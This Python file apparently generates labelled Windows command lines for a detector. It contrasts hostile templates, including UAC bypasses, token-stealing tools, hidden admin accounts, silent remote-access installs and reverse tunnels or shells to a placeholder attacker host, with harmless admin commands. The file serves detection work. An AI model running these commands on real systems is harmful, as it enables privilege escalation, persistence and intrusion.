"""Rights taken, accounts made and remote help misused by command, and the same tools in honest hands."""

from __future__ import annotations

from generator.families.windows.execution_table import harmless, hostile

hostile("consent-prompt-bypassed", "Privilege Escalation", "T1548.002", r"""
reg add HKCU\Software\Classes\ms-settings\shell\open\command /ve /d "~f~.exe" /f & reg add HKCU\Software\Classes\ms-settings\shell\open\command /v DelegateExecute /d "" /f & «fodhelper|computerdefaults».exe
reg add "HKCU\Software\Classes\mscfile\shell\open\command" /ve /d "«cmd.exe /c |»~f~.exe" /f & «eventvwr.exe|CompMgmtLauncher.exe»
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\App Paths\control.exe" /ve /d "~f~.exe" /f & sdclt.exe
reg add "HKCU\Software\Classes\Folder\shell\open\command" /d "~f~.exe" /f & reg add "HKCU\Software\Classes\Folder\shell\open\command" /v DelegateExecute /f & sdclt.exe
reg add "HKCU\Software\Classes\exefile\shell\runas\command" /v IsolatedCommand /d "~f~.exe" /f & sdclt.exe /kickoffelev
reg add "HKCU\Environment" /v windir /d "~f~.exe &&REM " /f & schtasks /Run /TN \Microsoft\Windows\DiskCleanup\SilentCleanup /I
reg add "HKCU\Software\Classes\AppX82a6gwre4fdg3bt635tn5ctqjf8msdd2\Shell\open\command" /ve /d ~f~.exe /f & wsreset.exe
reg add "HKCU\Software\Classes\Launcher.SystemSettings\Shell\Open\Command" /ve /d "~f~.exe" /f & slui.exe
reg add "HKCU\Software\Classes\.~n~\Shell\Open\command" /ve /d ~f~.exe /f & reg add HKCU\Software\Classes\ms-settings\CurVer /ve /d .~n~ /f & fodhelper.exe
powershell "New-Item HKCU:\Software\Classes\ms-settings\Shell\Open\command -Force | Out-Null; Set-ItemProperty HKCU:\Software\Classes\ms-settings\Shell\Open\command '(default)' '~f~.exe'; New-ItemProperty HKCU:\Software\Classes\ms-settings\Shell\Open\command DelegateExecute -Value ''; Start-Process «fodhelper|computerdefaults».exe"
reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v «EnableLUA|ConsentPromptBehaviorAdmin|PromptOnSecureDesktop» /t REG_DWORD /d 0 /f
~d~«Akagi64|Akagi|UACME|BypassUAC|SharpBypassUAC».exe «23|33|41|59|61» ~f~.exe
mkdir "\\?\C:\Windows \System32" & copy C:\Windows\System32\«winSAT|easinvoker|WSReset».exe "C:\Windows \System32\" & copy ~f~.dll "C:\Windows \System32\«version|netutils|dxgi|propsys».dll"
"C:\Windows\System32\dccw.exe" & copy ~f~.dll "C:\Windows\System32\dccw.exe.Local\"
dism.exe /online /apply-unattend:~f~.xml & pkgmgr.exe /n:~f~.xml
iscsicpl.exe & copy ~f~.dll %LOCALAPPDATA%\Microsoft\WindowsApps\ISCSIEXE.dll
powershell "rundll32.exe ~f~.dll; Start-Process 'C:\Windows\System32\msdt.exe' -ArgumentList '-path C:\Windows\diagnostics\index\BluetoothDiagnostic.xml -skip yes'"
""", weight=1.2)
hostile("impersonation-tools", "Privilege Escalation", "T1134", r"""
~d~«JuicyPotato|JuicyPotatoNG|RottenPotato|RoguePotato|SweetPotato|GodPotato|GodPotato-NET4|PrintSpoofer64|PrintSpoofer|EfsPotato|BadPotato|CoercedPotato|SharpEfsPotato|DCOMPotato|LocalPotato|SigmaPotato|PetitPotam».exe «-cmd "cmd /c whoami"|-i -c cmd|-t * -p C:\Windows\System32\cmd.exe -l 1337|-a "whoami"|-r @ip@ -e ~f~.exe»
~d~~n~.exe -l 9999 -c {4991D34B-80A1-4291-83B6-3328366B9097} -p C:\Windows\System32\cmd.exe -a "/c ~f~.bat" -t *
~f~.exe -cmd "cmd /c net localgroup administrators @user@ /add"
~d~incognito.exe «list_tokens -u|execute -c "@domain@\Administrator" cmd.exe|add_user @word@ @pw@»
~d~Tokenvator.exe «Steal_Token /Process:@pid@ /Command:cmd.exe|GetSystem|BypassUAC»
~d~«SharpImpersonation|SharpToken|FullPowers|TokenPlayer|PsBits».exe «user:@domain@\Administrator technique:ImpersonateLoggedOnuser|execute "NT AUTHORITY\SYSTEM" cmd|-c "cmd"|--impersonate --pid @pid@»
~d~AdvancedRun.exe /EXEFilename "C:\Windows\System32\cmd.exe" /RunAs 8 /Run
~d~NSudo«LG|LC|».exe -U:T -P:E «cmd|~f~.exe|sc stop WinDefend»
~d~RunasCs.exe @user@ @pw@ cmd.exe -r @pub@:4444
runas /netonly /user:@domain@\Administrator "~f~.exe"
powershell -ep bypass -c "Import-Module ~d~«Invoke-TokenManipulation|PowerUp|Get-System|Invoke-RunAs».ps1; «Invoke-TokenManipulation -ImpersonateUser -Username 'NT AUTHORITY\SYSTEM'|Invoke-AllChecks|Get-System -Technique Token»"
cmd.exe /c echo ~n~ > \\.\pipe\~n~
~d~psexec64.exe -i -s -d -accepteula ~f~.exe
""", weight=1.2)
hostile("accounts-made-at-a-prompt", "Persistence", "T1136.001 T1098", r"""
net user «support|helpdesk|sysadmin|DefaultUser1|WDAGUtilityAcc|mssql|backupadm|ASPNET|@word@|@word@$|oldadmin|itadm» @pw@ /add & net localgroup administrators «support|sysadmin|@word@$» /add
net user «@word@|svc_@word@|admin1|guest2» @pw@ /add /«expires:never|active:yes|passwordchg:no|fullname:"" /comment:""»
net1 user @word@ @pw@ /add /y
cmd.exe /c "net user @word@ @pw@ /add && net localgroup «administrators|Administratoren|Administrateurs|Administradores» @word@ /add && net localgroup "Remote Desktop Users" @word@ /add"
powershell "$p=ConvertTo-SecureString '@pw@' -AsPlainText -Force;New-LocalUser '@word@' -Password $p -PasswordNeverExpires;Add-LocalGroupMember Administrators '@word@'"
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v @word@ /t REG_DWORD /d 0 /f & net user @word@ @pw@ /add
net user /add @word@ @pw@ & net localgroup administrators /add @word@ & reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
~d~«UserAdd|CreateHiddenAccount_v0.2|adduser|SharpAddUser».exe «-u @word@$ -p @pw@|@word@ @pw@|»
@@ T1098.007 T1098
powershell "([ADSI]'WinNT://./administrators,group').Add('WinNT://./@word@,user')"
net group "«Domain Admins|Enterprise Admins|Exchange Organization Administrators|Group Policy Creator Owners»" @word@ /add /domain
@@ T1098 T1136.001
wmic useraccount where name='@word@' set PasswordExpires=FALSE
@@ T1078.001 T1098
net user Guest /active:yes & net user Guest @pw@ & net localgroup administrators Guest /add
""", parents=("w3wp.exe", "sqlservr.exe", "mshta.exe", "@tmp@@word@.exe", "@tmp@@word@.exe", "spoolsv.exe", "rundll32.exe", "C:\\Windows\\Tasks\\@word@.exe", "java.exe"))
hostile("remote-help-installed-by-strangers", "Command and Control", "T1219", r"""
~d~AnyDesk.exe --install "C:\ProgramData\AnyDesk" --start-with-win --silent
cmd /c echo @pw@ | C:\ProgramData\AnyDesk.exe --set-password
«C:\ProgramData\|C:\Users\Public\|C:\Windows\Temp\|C:\PerfLogs\|C:\Windows\Tasks\|C:\Users\@user@\Music\»anydesk.exe --get-id
C:\ProgramData\AnyDesk\AnyDesk.exe --set-password _unattended_access & reg add HKLM\SYSTEM\CurrentControlSet\Control\SafeBoot\Network\AnyDesk /ve /d Service /f
msiexec /i ~d~ScreenConnect.ClientSetup.msi /qn & del ~d~ScreenConnect.ClientSetup.msi
~d~ScreenConnect.ClientService.exe "?e=Access&y=Guest&h=@word@.«top|xyz|icu|click»&p=8041&s=@guid@&k=@hex@@hex@"
«C:\ProgramData\|C:\Users\Public\|C:\Windows\Temp\|C:\PerfLogs\|C:\Windows\Tasks\|C:\Users\@user@\Music\»«atera|AteraAgent|splashtop|SRServer|rustdesk|meshagent|MeshAgent|Remcos|rutserv|rfusclient|client32|netsupport|ammyy|AA_v3|supremo|ultraviewer|dwagent|tacticalrmm|action1_agent|fleetdeck_agent|level|SimpleHelp|zohoassist|getscreen|HopToDesk|LMIGuardianSvc|ISLLight».exe «-install|--silent-install|/VERYSILENT|-fullinstall|--service|/S|-startup»
~d~meshagent.exe -fullinstall --installPath="C:\ProgramData\~n~" --meshServiceName="~n~"
~d~rustdesk.exe --password @pw@ & ~d~rustdesk.exe --get-id
msiexec /i ~d~AteraAgentSetup.msi /qn IntegratorLogin=@word@@@word@.com CompanyId=1
powershell -c "iwr http://download.anydesk.com/AnyDesk.exe -OutFile C:\ProgramData\AnyDesk.exe; C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent; cmd /c 'echo @pw@ | C:\ProgramData\AnyDesk.exe --set-password'"
~d~client32.exe & reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v NetSupport /d ~d~client32.exe /f
~d~winvnc.exe -install & ~d~winvnc.exe -connect @pub@::5500 -run
~d~TeamViewer.exe --id @n@@n@@n@ --passwd @pw@ & ~d~tv_x64.exe --action install
~d~quickassist.exe & powershell -w hidden -c "iwr @url@/~n~.zip -o ~f~.zip"
~d~code.exe tunnel --accept-server-license-terms --name ~n~ --random-name
""", weight=1.3)
hostile("remote-desktop-switched-on", "Lateral Movement", "T1021.001 T1112 T1562.004", r"""
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f & netsh advfirewall firewall add rule name="«rdp|~n~»" dir=in protocol=tcp localport=3389 action=allow
reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fSingleSessionPerUser /t REG_DWORD /d 0 /f & reg add "HKLM\System\CurrentControlSet\Control\Terminal Server\Licensing Core" /v EnableConcurrentSessions /t REG_DWORD /d 1 /f
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Lsa" /v «DisableRestrictedAdmin|LimitBlankPasswordUse» /t REG_DWORD /d 0 /f
reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System" /v LocalAccountTokenFilterPolicy /t REG_DWORD /d 1 /f & net user Administrator /active:yes
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v «UserAuthentication|SecurityLayer» /t REG_DWORD /d 0 /f & sc config TermService start= auto & net start TermService
~d~RDPWInst.exe -i -o & ~d~RDPCheck.exe
mstsc.exe /v:127.0.0.1:@port@ /shadow:@n@ /noconsentprompt /control
takeown /f C:\Windows\System32\termsrv.dll & icacls C:\Windows\System32\termsrv.dll /grant administrators:F & copy /y ~f~.dll C:\Windows\System32\termsrv.dll
wmic rdtoggle where AllowTSConnections="0" call SetAllowTSConnections "1" & net localgroup "Remote Desktop Users" @word@ /add
powershell "Set-ItemProperty 'HKLM:\System\CurrentControlSet\Control\Terminal Server' fDenyTSConnections 0; Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'; net user @word@ @pw@ /add"
""")
hostile("tunnels-from-inside", "Command and Control", "T1572", r"""
~d~«chisel|chisel_x64|~n~».exe client @pub@:«8080|443|8000» R:«socks|1080:socks|3389:127.0.0.1:3389|0.0.0.0:445:@ip@:445»
~d~plink.exe -ssh -N -R «3389:127.0.0.1:3389|4444:@ip@:445|0.0.0.0:1080» -pw @pw@ «root|tunnel|user»@@pub@
cmd /c echo y | ~d~plink.exe @pub@ -P «22|443» -C -R 127.0.0.1:@port@:127.0.0.1:3389 -l root -pw @pw@
"C:\Windows\System32\OpenSSH\ssh.exe" -N -R @port@:localhost:3389 -o StrictHostKeyChecking=no root@@pub@
ssh -f -N -R 1080 -i ~d~id_rsa -o StrictHostKeyChecking=no -p 443 tunnel@@pub@
~d~ngrok.exe «tcp 3389|http 80|tcp 445|authtoken @hex@@hex@@hex@|tcp --region=eu 5985»
~d~«cloudflared|~n~».exe tunnel «--url tcp://localhost:3389|--no-autoupdate run --token eyJhIjoi@hex@@hex@|--url rdp://127.0.0.1:3389»
~d~«frpc|frpc_x64|~n~».exe -c ~d~frpc.«ini|toml»
~d~«ligolo-agent|agent|~n~».exe -connect @pub@:11601 -ignore-cert
~d~«gost|iox|ew|rsocks|revsocks|pingtunnel|dnscat2|iodine|gsocket|bore|rathole|wstunnel|stunnel|npc|nps|lcx|venom_agent|Stowaway|earthworm|htran|sshuttle|localtonet|playit|zrok|devtunnel».exe «-L=:1080 -F=socks5://@pub@:443|proxy -r @pub@:9999|-s rssocks -d @pub@ -e 8888|-connect @pub@:8443 -pass @word@|-type client -l :4455 -s @pub@ -t @pub@:4455|--dns domain=@word@.@word@.com|client -s @pub@:443|-tran @port@ @ip@ 3389|-slave @pub@ 8888 127.0.0.1 3389»
~d~wstunnel.exe client -R tcp://@port@:localhost:3389 wss://@word@.com:443
~d~dnscat2.exe --dns server=@pub@,port=53 --secret=@hex@
~d~tailscale.exe up --authkey tskey-auth-@hex@ --unattended
~d~devtunnel.exe host -p 3389 --allow-anonymous
""", weight=1.3)
hostile("forwarded-ports-and-onion-proxies", "Command and Control", "T1090.001 T1090.003", r"""
netsh interface portproxy add v4tov4 listenport=«8080|4455|9999|3340|445» listenaddress=0.0.0.0 connectport=«3389|445|4444|22» connectaddress=@pub@
netsh interface portproxy add v4tov4 listenport=«8080|3340|443» listenaddress=0.0.0.0 connectport=3389 connectaddress=@ip@
netsh.exe interface portproxy add v4tov4 listenaddress=@ip@ listenport=@port@ connectaddress=@pub@ connectport=443 protocol=tcp
netsh interface portproxy add v4tov4 8001 @pub@ 443
netsh i p a v l=8001 listena=0.0.0.0 connectp=443 c=@pub@
reg add HKLM\SYSTEM\CurrentControlSet\Services\PortProxy\v4tov4\tcp /v "0.0.0.0/@port@" /d "@pub@/3389" /f
powershell netsh interface portproxy add v4tov4 listenport=5555 connectport=3389 connectaddress=@ip@
~d~tor.exe «--nt-service -f ~d~torrc|--SocksPort 9050 --HiddenServiceDir ~d~hs --HiddenServicePort "3389 127.0.0.1:3389"|-f torrc --quiet»
~d~«proxifier|3proxy|microsocks|ccproxy|srelay|SharpSocks|reGeorg|fsocks».exe «~d~3proxy.cfg|-p1080|--socks @pub@:443|-l @port@»
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings" /v ProxyServer /t REG_SZ /d "@pub@:8080" /f & reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings" /v ProxyEnable /t REG_DWORD /d 1 /f & certutil -addstore root ~f~.cer
netsh winhttp set proxy @pub@:8080 & ~f~.exe
netsh interface portproxy add v6tov4 listenport=@port@ connectaddress=@pub@ connectport=4444
""")

harmless("remote-help-by-the-helpdesk", "Administration", r"""
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v «PortNumber /t REG_DWORD /d @port@|UserAuthentication /t REG_DWORD /d 1» /f
reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows NT\Terminal Services" /v Shadow /t REG_DWORD /d «1|2» /f
qwinsta /server:@ip@ & rwinsta @n@ /server:@ip@
tscon @n@ /dest:console
"C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --service
"C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --tray
AnyDesk.exe --install "C:\Program Files (x86)\AnyDesk" --start-with-win --create-shortcuts --silent
"C:\Program Files\TeamViewer\TeamViewer_Service.exe"
"C:\Users\@user@\Downloads\TeamViewerQS.exe"
msiexec /i \\~s~\software\TeamViewer_Host.msi /qn CUSTOMCONFIGID=@hex@ APITOKEN=@hex@
"C:\Program Files (x86)\ScreenConnect Client (@hex@)\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=support.@fqdn@&p=8041&s=@guid@&k=@hex@@hex@"
"C:\Program Files (x86)\ScreenConnect Client (@hex@)\ScreenConnect.WindowsClient.exe" "RunRole" "@guid@" "User"
"C:\Program Files\RustDesk\rustdesk.exe" --server
"C:\Program Files\Mesh Agent\MeshAgent.exe" --meshServiceName="Mesh Agent"
C:\Windows\System32\quickassist.exe
msra.exe /offerRA @pc@
mstsc.exe /v:@host@ /shadow:2 /control
mstsc.exe /v:@host@.@fqdn@ /admin
mstsc "C:\Users\@user@\Desktop\Terminalserver.rdp"
"C:\Program Files\uvnc bvba\UltraVNC\winvnc.exe" -service
"C:\Program Files\ATERA Networks\AteraAgent\AteraAgent.exe"
"C:\Program Files (x86)\Splashtop\Splashtop Remote\Server\SRService.exe"
"C:\Windows\CCM\RemCtrl\CmRcService.exe"
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
powershell Enable-NetFirewallRule -DisplayGroup "Remote Desktop"
qwinsta /server:@host@
""", weight=1.3)
harmless("tunnels-of-developers-and-vendors", "Network Service", r"""
ssh -L «8080:localhost:80|5432:db.@fqdn@:5432|3389:@ip@:3389|6443:10.0.0.1:6443» @user@@@host@.@fqdn@
"C:\Windows\System32\OpenSSH\ssh.exe" -N -D 1080 @user@@bastion.@fqdn@
"C:\Program Files\PuTTY\plink.exe" -ssh -batch @svc@@@host@ "df -h"
plink.exe -agent -L 3307:127.0.0.1:3306 @user@@@host@
"C:\Program Files (x86)\cloudflared\cloudflared.exe" tunnel run --token eyJhIjoi@hex@@hex@
cloudflared.exe access rdp --hostname rdp.@fqdn@ --url localhost:3389
ngrok.exe http 3000
"C:\Users\@user@\AppData\Roaming\npm\node_modules\localtunnel\bin\lt.exe" --port 8080
netsh interface portproxy show all
netsh interface portproxy add v4tov4 listenport=«3000|2222|8080» listenaddress=0.0.0.0 connectport=«3000|22|80» connectaddress=172.@n@.144.2
netsh interface portproxy delete v4tov4 listenport=3000 listenaddress=0.0.0.0
netsh winhttp show proxy
netsh winhttp set proxy proxy-server="http=proxy.@fqdn@:3128;https=proxy.@fqdn@:3128" bypass-list="*.@fqdn@;<local>"
netsh winhttp reset proxy
reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Internet Settings" /v AutoConfigURL /d "http://wpad.@fqdn@/proxy.pac" /f
"C:\Program Files\Tailscale\tailscale.exe" up --operator=@user@
"C:\Program Files\OpenVPN\bin\openvpn.exe" --config @company@.ovpn
"C:\Program Files\WireGuard\wireguard.exe" /installtunnelservice C:\Program Files\WireGuard\Data\office.conf
"C:\Program Files (x86)\stunnel\bin\stunnel.exe" -service
kubectl.exe port-forward svc/grafana 3000:80
"C:\Users\@user@\Desktop\Tor Browser\Browser\firefox.exe"
code.exe tunnel status
gcloud compute start-iap-tunnel @host@ 3389 --local-host-port=localhost:3390
aws ssm start-session --target i-0@hex@ --document-name AWS-StartPortForwardingSession
""", weight=1.3)
harmless("accounts-and-rights-by-admins", "Administration", r"""
net user «localadmin|kiosk|scanner|scan2folder|praktikum» @pw@ /add /expires:never
net user Administrator /active:no
net user Guest /active:no
net user @other@ * /domain
net localgroup «Administrators|Administratoren» "@domain@\«ServerAdmins|Helpdesk|@other@»" /add
net localgroup "Remote Desktop Users" "@domain@\@other@" /«add|delete»
net group "«Vertrieb|Sales|VPN-Users|Projekt @Word@»" @other@ /add /domain
powershell "New-ADUser -Name '@other@' -SamAccountName @other@ -Path 'OU=Staff,DC=@company@,DC=local' -Enabled $true"
powershell New-LocalUser -Name kiosk -NoPassword
powershell "Add-LocalGroupMember -Group 'Hyper-V Administrators' -Member '@domain@\@other@'"
reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v «EnableLUA|ConsentPromptBehaviorAdmin|PromptOnSecureDesktop» /t REG_DWORD /d 1 /f
reg query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v EnableLUA
runas /user:@domain@\adm-@other@ "mmc.exe %SystemRoot%\system32\dsa.msc"
runas /savecred /user:@me@\localadmin "C:\Program Files\~v~\legacy.exe"
C:\Tools\PSTools\PsExec.exe -i -s cmd.exe
"C:\Windows\system32\fodhelper.exe"
"C:\Windows\system32\ComputerDefaults.exe"
"C:\Windows\system32\eventvwr.exe" /c:Security
C:\Windows\System32\sdclt.exe /CONFIGNOTIFICATION
"C:\Windows\System32\wsreset.exe"
slui.exe 3
"C:\Windows\system32\dccw.exe"
dism.exe /online /enable-feature /featurename:NetFx3 /source:D:\sources\sxs /limitaccess
icacls "D:\Daten\@Word@" /grant "@domain@\@other@:(OI)(CI)M" /T
takeown /f "D:\Profile\@other@" /r /d j
""", weight=1.3)
